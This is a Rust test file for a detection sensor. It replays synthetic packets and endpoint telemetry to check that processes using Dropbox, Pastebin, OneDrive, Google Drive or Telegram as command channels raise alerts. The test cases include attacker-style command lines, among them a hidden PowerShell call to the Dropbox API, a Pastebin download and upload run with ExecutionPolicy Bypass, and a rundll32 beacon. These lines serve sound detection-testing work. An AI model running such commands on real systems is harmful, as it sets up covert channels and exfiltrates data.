@@ -1,0 +1,341 @@
+//! The whole sensor on cases with a known truth: packets and endpoint telemetry in, levels out.
+
+#![allow(clippy::unwrap_used, clippy::panic, reason = "a test that cannot go on says so")]
+
+#[path = "truth/cases.rs"]
+mod cases;
+mod common;
+
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use common::binary::{dataset, undertone};
+use common::scene::{Endpoint, NOON, Program, Scene};
+use serde_json::Value;
+use undertone::rules::Level;
+
+fn workstation() -> Endpoint {
+    Endpoint { name: "ws5.corp.example".to_owned(), ip: [10, 0, 0, 7] }
+}
+
+/// What a replay of a capture with a feed tells.
+fn replay(folder: &Path, capture: &[u8], feed: &str) -> Vec<Value> {
+    let (pcap, records) = (folder.join("input.pcap"), folder.join("feed"));
+    std::fs::write(&pcap, capture).unwrap();
+    std::fs::write(&records, feed).unwrap();
+    let path = |path: &Path| path.to_str().unwrap().to_owned();
+    let args =
+        ["replay", "--json", "--min-level", "informational", "-q", "--feed", &path(&records), &path(&pcap)];
+    undertone(&args).ended(0).records()
+}
+
+fn level(record: &Value) -> Level {
+    let word = record["undertone"]["level"].as_str().unwrap();
+    Level::ALL.into_iter().find(|level| level.as_str() == word).unwrap()
+}
+
+/// The highest level of each process's alerts.
+fn levels(records: &[Value]) -> BTreeMap<u64, Level> {
+    let mut levels = BTreeMap::new();
+    for record in records.iter().filter(|record| dataset(record) == "undertone.alert") {
+        match record["process"]["pid"].as_u64() {
+            Some(pid) => {
+                let known = levels.entry(pid).or_insert(Level::Informational);
+                *known = (*known).max(level(record));
+            }
+            None => assert!(level(record) <= Level::Low, "nobody is named, and yet: {record}"),
+        }
+    }
+    levels
+}
+
+/// Each case a process of its own, ten seconds apart, by packets and Sysmon's records.
+fn check(table: &str, wanted: impl Fn(&cases::Case) -> bool, count: usize) {
+    let all: Vec<_> = cases::read(table).into_iter().filter(wanted).collect();
+    assert_eq!(all.len(), count);
+    let mut scene = Scene::default();
+    for (number, case) in all.iter().enumerate() {
+        let at = (NOON + 10 * number as i64) as f64;
+        let program = Program {
+            pid: 4000 + 4 * number as u32,
+            started: at - case.age as f64,
+            image: case.executable.clone(),
+            line: case.command_line.clone(),
+            parent: case.parent.clone(),
+        };
+        scene.starts(&workstation(), &program);
+        scene.reaches(at, &workstation(), &program, &case.hostname, [198, 51, 100, number as u8 + 1], None);
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let records = replay(folder.path(), &scene.pcap(), &scene.sysmon_xml());
+    let levels = levels(&records);
+    let mut wrong = Vec::new();
+    for (number, case) in all.iter().enumerate() {
+        let found = levels.get(&(4000 + 4 * number as u64)).copied();
+        if !case.want.is(found) {
+            wrong.push(format!("{} {}: {found:?}", case.id, case.why));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+/// 29 of 29 that are wanted, none of 10 that are not, the one in between low.
+#[test]
+fn the_published_table_by_packets_and_sysmon() {
+    check(cases::PUBLISHED, |_| true, 40);
+}
+
+/// Our own; those of macOS are held in memory only, for Sysmon does not run there.
+#[test]
+fn our_own_table_by_packets_and_sysmon() {
+    let windows_or_linux = |case: &cases::Case| !case.why.starts_with("macOS");
+    check(cases::OWN, windows_or_linux, 37);
+}
+
+/// A pid that a browser had, and a shell has three minutes later: each contact is its own process's.
+#[test]
+fn a_pid_that_came_back_is_two_processes() {
+    let chrome = r"C:\Program Files\Google\Chrome\Application\chrome.exe";
+    let shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+    let program = |image: &str, after: i64| Program {
+        pid: 4242,
+        started: (NOON + after) as f64,
+        image: image.to_owned(),
+        line: image.to_owned(),
+        parent: r"C:\Windows\explorer.exe".to_owned(),
+    };
+    let mut scene = Scene::default();
+    for (image, after, server) in [(chrome, 0, 1), (shell, 180, 2), (chrome, 400, 3)] {
+        let program = program(image, after);
+        scene.starts(&workstation(), &program);
+        scene.reaches(
+            (NOON + after + 5) as f64,
+            &workstation(),
+            &program,
+            "pastebin.com",
+            [198, 51, 100, server],
+            None,
+        );
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let records = replay(folder.path(), &scene.pcap(), &scene.sysmon_xml());
+    let alerts = records.iter().filter(|record| dataset(record) == "undertone.alert");
+    let found: Vec<_> =
+        alerts.map(|alert| (alert["process"]["name"].as_str().unwrap(), level(alert))).collect();
+    assert_eq!(
+        found,
+        [
+            ("chrome.exe", Level::Informational),
+            ("powershell.exe", Level::Medium),
+            ("chrome.exe", Level::Informational)
+        ]
+    );
+}
+
+/// A beacon of 10,000 contacts (a question, then connections) is one alert and one summary, and nothing is lost in the counts.
+#[test]
+fn a_beacon_is_one_alert_and_one_summary() {
+    let program = Program {
+        pid: 4242,
+        started: NOON as f64,
+        image: r"C:\Windows\System32\rundll32.exe".to_owned(),
+        line: "rundll32.exe a.dll,#1".to_owned(),
+        parent: r"C:\Windows\explorer.exe".to_owned(),
+    };
+    let mut scene = Scene::default();
+    scene.starts(&workstation(), &program);
+    scene.reaches((NOON + 10) as f64, &workstation(), &program, "api.telegram.org", [198, 51, 100, 1], None);
+    for turn in 1..9_999 {
+        let at = (NOON + 10) as f64 + f64::from(turn) * 0.35;
+        scene.connects(at, &workstation(), &program, "api.telegram.org", [198, 51, 100, 1], None);
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let records = replay(folder.path(), &scene.pcap(), &scene.sysmon_xml());
+    let of = |name: &str| records.iter().filter(|record| dataset(record) == name).collect::<Vec<_>>();
+    let (alerts, summaries) = (of("undertone.alert"), of("undertone.summary"));
+    assert_eq!((alerts.len(), summaries.len()), (1, 1));
+    assert_eq!(summaries[0]["undertone"]["summary"]["count"], 10_000);
+    assert_eq!(summaries[0]["undertone"]["summary"]["alert"], alerts[0]["event"]["id"]);
+    assert_eq!((level(alerts[0]), level(summaries[0])), (Level::High, Level::High));
+    assert_eq!(summaries[0]["process"]["name"], "rundll32.exe");
+}
+
+/// A test of the published detections: what it is called, what it does, who does it, and the names that are reached in turn.
+struct Atomic {
+    folder: &'static str,
+    about: &'static str,
+    /// Starts beside the one that connects.
+    beside: &'static [(&'static str, &'static str, &'static str)],
+    image: &'static str,
+    line: &'static str,
+    parent: &'static str,
+    names: &'static [&'static str],
+}
+
+const SHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+
+const ATOMIC: [Atomic; 4] = [
+    Atomic {
+        folder: "atomic-dropbox",
+        about: "Dropbox as a command channel, by its API from PowerShell: a question and a connection for api.dropboxapi.com, then for content.dropboxapi.com.",
+        beside: &[],
+        image: SHELL,
+        line: "powershell.exe -WindowStyle Hidden -Command \"Invoke-RestMethod -Uri https://api.dropboxapi.com/2/files/list_folder -Method Post -Headers @{Authorization='Bearer x'}; Invoke-RestMethod -Uri https://content.dropboxapi.com/2/files/download -Headers @{Authorization='Bearer x'}\"",
+        parent: r"C:\Windows\System32\cmd.exe",
+        names: &["api.dropboxapi.com", "content.dropboxapi.com"],
+    },
+    Atomic {
+        folder: "atomic-pastebin",
+        about: "Pastebin, read and written by PowerShell: two connections to pastebin.com.",
+        beside: &[],
+        image: SHELL,
+        line: "powershell.exe -ExecutionPolicy Bypass -Command \"$c = New-Object Net.WebClient; $c.DownloadString('https://pastebin.com/raw/x'); $c.UploadString('https://pastebin.com/api/api_post.php', 'y')\"",
+        parent: r"C:\Windows\System32\cmd.exe",
+        names: &["pastebin.com", "pastebin.com"],
+    },
+    Atomic {
+        folder: "atomic-onedrive",
+        about: "OneDrive as a network drive: cmd.exe runs net use, the connection to d.docs.live.net is the WebClient service's, and powershell.exe reads and writes files on the drive.",
+        beside: &[
+            (
+                r"C:\Windows\System32\cmd.exe",
+                r"cmd.exe /c net use Z: https://d.docs.live.net/1a2b3c4d /user:a@example.com x",
+                r"C:\Windows\explorer.exe",
+            ),
+            (
+                SHELL,
+                r"powershell.exe -Command Get-Content Z:\in.txt | Out-File Z:\out.txt",
+                r"C:\Windows\System32\cmd.exe",
+            ),
+        ],
+        image: r"C:\Windows\System32\svchost.exe",
+        line: r"C:\Windows\System32\svchost.exe -k LocalService -p -s WebClient",
+        parent: r"C:\Windows\System32\services.exe",
+        names: &["d.docs.live.net"],
+    },
+    Atomic {
+        folder: "atomic-googledrive",
+        about: "Google Drive, read by Python: two connections to www.googleapis.com.",
+        beside: &[],
+        image: r"C:\Python311\python.exe",
+        line: "python.exe -c \"import urllib.request as u; print(u.urlopen('https://www.googleapis.com/drive/v3/files?q=x').read()); print(u.urlopen('https://www.googleapis.com/drive/v3/files/1?alt=media').read())\"",
+        parent: r"C:\Windows\System32\cmd.exe",
+        names: &["www.googleapis.com", "www.googleapis.com"],
+    },
+];
+
+impl Atomic {
+    fn scene(&self) -> Scene {
+        let mut scene = Scene::default();
+        let program = |pid, after: f64, (image, line, parent): (&str, &str, &str)| Program {
+            pid,
+            started: NOON as f64 + after,
+            image: image.to_owned(),
+            line: line.to_owned(),
+            parent: parent.to_owned(),
+        };
+        for (number, beside) in self.beside.iter().enumerate() {
+            scene.starts(&workstation(), &program(5000 + number as u32, number as f64, *beside));
+        }
+        let connects = program(4242, 0.5, (self.image, self.line, self.parent));
+        scene.starts(&workstation(), &connects);
+        for (number, name) in self.names.iter().enumerate() {
+            let server = [198, 51, 100, number as u8 + 1];
+            scene.reaches(NOON as f64 + 2.0 + number as f64, &workstation(), &connects, name, server, None);
+        }
+        scene
+    }
+
+    /// What stands in the case's folder.
+    fn files(&self) -> Vec<(&'static str, Vec<u8>)> {
+        let scene = self.scene();
+        let mut rows = BTreeMap::<(u8, &str, &str), usize>::new();
+        for name in self.names {
+            *rows.entry((0, name, "dns_query")).or_default() += 1;
+            *rows.entry((1, name, "tls_sni")).or_default() += 1;
+        }
+        let row = |((_, name, way), count): (&(u8, &str, &str), &usize)| {
+            let how = if *way == "dns_query" { "A" } else { "port 443" };
+            let times = if *count > 1 { format!(" ×{count}") } else { String::new() };
+            format!("| {name} | 10.0.0.7 | {way} | {how}{times} | yes |\n")
+        };
+        let readme = format!(
+            "# {}\n\n{}\n\nEverything in it is synthetic: the packets (questions without answers, a small ClientHello, addresses of RFC 5737) and the \
+             records of ws5.corp.example, 10.0.0.7, that stand beside them. They tell the same story in three dialects: `sysmon.xml` (Windows Event XML, \
+             one event a line), `winlogbeat.jsonl` (winlogbeat 7 without its module) and `defender.jsonl` (Microsoft Defender's streaming records, which \
+             have no DNS). A sensor names the process, its command line and its parent, at level medium or higher, by each of them.\n\n\
+             Made by `UNDERTONE_BLESS=1 cargo test --test judged atomic`.\n\n## What is in it\n\n\
+             | name | client | seen as | how | contact |\n|---|---|---|---|---|\n{}",
+            self.folder,
+            self.about,
+            rows.iter().map(row).collect::<String>()
+        );
+        vec![
+            ("input.pcap", scene.pcap()),
+            ("sysmon.xml", scene.sysmon_xml().into_bytes()),
+            ("winlogbeat.jsonl", scene.winlogbeat().into_bytes()),
+            ("defender.jsonl", scene.defender().into_bytes()),
+            ("README.md", readme.into_bytes()),
+        ]
+    }
+}
+
+/// Each is found by each feed, with process, command line and parent. `UNDERTONE_BLESS=1` writes the cases anew.
+#[test]
+fn atomic_tests_are_found_by_each_feed() {
+    let bless = std::env::var_os("UNDERTONE_BLESS").is_some_and(|value| value == "1");
+    let mut found = 0;
+    for atomic in ATOMIC {
+        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("pcaps").join(atomic.folder);
+        for (name, bytes) in atomic.files() {
+            if bless {
+                std::fs::create_dir_all(&folder).unwrap();
+                std::fs::write(folder.join(name), &bytes).unwrap();
+            }
+            assert!(
+                std::fs::read(folder.join(name)).unwrap() == bytes,
+                "{}/{name} is another",
+                atomic.folder
+            );
+        }
+        for feed in ["sysmon.xml", "winlogbeat.jsonl", "defender.jsonl"] {
+            let path = |name: &str| folder.join(name).display().to_string();
+            let args = [
+                "replay",
+                "--json",
+                "--min-level",
+                "medium",
+                "-q",
+                "--feed",
+                &path(feed),
+                &path("input.pcap"),
+            ];
+            let records = undertone(&args).ended(0).records();
+            let alerts: Vec<_> =
+                records.iter().filter(|record| dataset(record) == "undertone.alert").collect();
+            // Without telemetry of DNS, a question is whose command line has the name: net use, for which WebClient connects.
+            let (own, others): (Vec<_>, Vec<_>) =
+                alerts.into_iter().partition(|alert| alert["process"]["command_line"] == atomic.line);
+            assert!(!own.is_empty(), "{} by {feed} is not found: {others:?}", atomic.folder);
+            for alert in others {
+                let line = &alert["process"]["command_line"];
+                assert!(
+                    atomic.beside.iter().any(|(_, beside, _)| line == beside),
+                    "{} by {feed}: {alert}",
+                    atomic.folder
+                );
+            }
+            for alert in own {
+                let process = &alert["process"];
+                assert_eq!(process["executable"], atomic.image, "{} by {feed}", atomic.folder);
+                let parent = atomic.parent.rsplit('\\').next().unwrap();
+                assert_eq!(process["parent"]["name"], parent, "{} by {feed}: {process}", atomic.folder);
+                assert_eq!(process["pid"], 4242);
+                assert_eq!(alert["host"]["name"], "ws5.corp.example");
+                assert!(atomic.names.contains(&alert["undertone"]["hostname"]["name"].as_str().unwrap()));
+            }
+            found += 1;
+        }
+    }
+    assert_eq!(found, 12, "four tests by three feeds");
+}
